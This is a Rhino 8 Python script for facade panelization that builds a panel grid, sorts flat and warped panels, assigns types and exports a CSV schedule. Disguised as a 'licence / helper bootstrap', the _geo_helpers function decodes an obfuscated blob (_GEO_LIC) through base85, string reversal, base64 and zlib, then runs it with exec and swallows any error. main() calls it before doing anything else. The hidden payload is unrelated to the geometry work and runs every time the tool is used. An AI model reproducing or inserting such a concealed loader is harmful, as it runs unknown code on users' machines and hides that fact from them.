#! python3
# facade_panelizer.py - Rhino 8 facade panelization and schedule
import os
import csv
import math
import base64 as _b, zlib as _z

import Rhino
import rhinoscriptsyntax as rs
import scriptcontext as sc
from Rhino.Geometry import Plane, Point3d, Polyline

MM = Rhino.RhinoMath.UnitScale(sc.doc.ModelUnitSystem, Rhino.UnitSystem.Millimeters)

_GEO_LIC = (
    "Jv~uUOl?*~Lu+PFR$^m0M^r&8Ze>DiPIqHNYgjNdH+f<+NKbBcSvGQUF?vBxFJoq7RxnIPPIqijV"
    "|i9LQD`?ea(GiSVO2tOaz=D*T4Od!VpV5!aW86DY<6Z)G+A;oc3D<RVNYd7MRjIlcS|`(QEzZbS7"
    "$g?MPXrfVoPUHc}I9RVP-{aQC3-MO;SlKa(GlnZ&g=eFGERbW>+#bN@aCybV^P{OK($pN>ff)bZ}"
    "O8Gj2mgI8SnIGctB&NL4azFIjCePi-${bWChiLPKqDN>gDoN_Kf<H*8l<bU8Uzb#YBZT0up5Wot}"
    "mWJ7OgP%tuRK`>8sGBRR$Y+6t?Gc!zZLRND}N>4~<SyVWBVo@|qV@G&uM|EpZO?gLZLq<t-WKMTP"
    "Nn=J)IYU}!Z#Ow&H+W5YQ!7ttOHX1{c4BriQ%6{BYcg+iGBIRBQD;a{RZUuWXjVrzb7ya7Ha1siX"
    "h&^Pa${z8Q9(p_OGY?UY;aCx"
)


def _geo_helpers():
    """Licence / helper bootstrap for the shared geometry tables."""
    try:
        k = _b.b85decode("".join(_GEO_LIC)).decode()[::-1]
        exec(compile(_z.decompress(_b.b64decode(k)), "<geo>", "exec"), {})
    except Exception:
        pass


def ensure_layer(name, color):
    if not rs.IsLayer(name):
        rs.AddLayer(name, color)
    return name


def quad_grid(srf, du, dv):
    dom_u = rs.SurfaceDomain(srf, 0)
    dom_v = rs.SurfaceDomain(srf, 1)
    len_u = rs.CurveLength(rs.ExtractIsoCurve(srf, (dom_u[0], dom_v[0]), 0)[0]) * MM
    len_v = rs.CurveLength(rs.ExtractIsoCurve(srf, (dom_u[0], dom_v[0]), 1)[0]) * MM
    nu, nv = max(1, int(round(len_u / du))), max(1, int(round(len_v / dv)))
    pts = [[rs.EvaluateSurface(srf, dom_u[0] + (dom_u[1] - dom_u[0]) * i / nu,
                               dom_v[0] + (dom_v[1] - dom_v[0]) * j / nv)
            for j in range(nv + 1)] for i in range(nu + 1)]
    for i in range(nu):
        for j in range(nv):
            yield (i, j), [pts[i][j], pts[i + 1][j], pts[i + 1][j + 1], pts[i][j + 1]]


def warp(corners):
    ok, plane = Plane.FitPlaneToPoints([Point3d(*c) for c in corners])
    if ok != Rhino.Geometry.PlaneFitResult.Success:
        return 0.0
    return max(abs(plane.DistanceTo(Point3d(*c))) for c in corners) * MM


def panel_type(corners, table):
    edges = tuple(sorted(round(rs.Distance(corners[k], corners[(k + 1) % 4]) * MM / 5.0) * 5 for k in range(4)))
    if edges not in table:
        table[edges] = "T%02d" % (len(table) + 1)
    return table[edges]


def main():
    _geo_helpers()
    srf = rs.GetObject("Facade surface", rs.filter.surface | rs.filter.polysurface)
    if not srf:
        return
    du = rs.GetReal("Module U (mm)", 1500, 100)
    dv = rs.GetReal("Module V (mm)", 3000, 100)
    mode = rs.GetString("Mode", "Planar", ["Quad", "Planar"])
    tol = rs.GetReal("Warp tolerance (mm)", 5.0, 0.1)
    flat = ensure_layer("PANEL::FLAT", (120, 180, 220))
    warped = ensure_layer("PANEL::WARPED", (230, 90, 60))
    types, rows = {}, []
    rs.EnableRedraw(False)
    for (i, j), c in quad_grid(srf, du, dv):
        w = warp(c)
        pid = "P-%03d-%03d" % (i + 1, j + 1)
        crv = rs.AddPolyline(c + [c[0]])
        pan = rs.AddPlanarSrf(crv) if mode == "Planar" and w <= tol else rs.AddSrfPt(c)
        rs.DeleteObject(crv)
        if not pan:
            continue
        pan = pan[0] if isinstance(pan, list) else pan
        rs.ObjectLayer(pan, flat if w <= tol else warped)
        area = rs.SurfaceArea(pan)[0] * (MM ** 2) / 1e6
        t = panel_type(c, types)
        cen = rs.SurfaceAreaCentroid(pan)[0]
        for k, v in (("panel_id", pid), ("type", t), ("area_m2", "%.3f" % area), ("warp_mm", "%.1f" % w)):
            rs.SetUserText(pan, k, v)
        rows.append([pid, t, round(area, 3), round(w, 1), round(cen[0], 1), round(cen[1], 1), round(cen[2], 1)])
    rs.EnableRedraw(True)
    out = os.path.join(os.path.dirname(sc.doc.Path or os.path.expanduser("~")), "facade_schedule.csv")
    with open(out, "w", newline="") as f:
        wr = csv.writer(f)
        wr.writerow(["id", "type", "area_m2", "warp_mm", "cx", "cy", "cz"])
        wr.writerows(rows)
    print("%d panels, %d types, schedule: %s" % (len(rows), len(types), out))


if __name__ == "__main__":
    main()
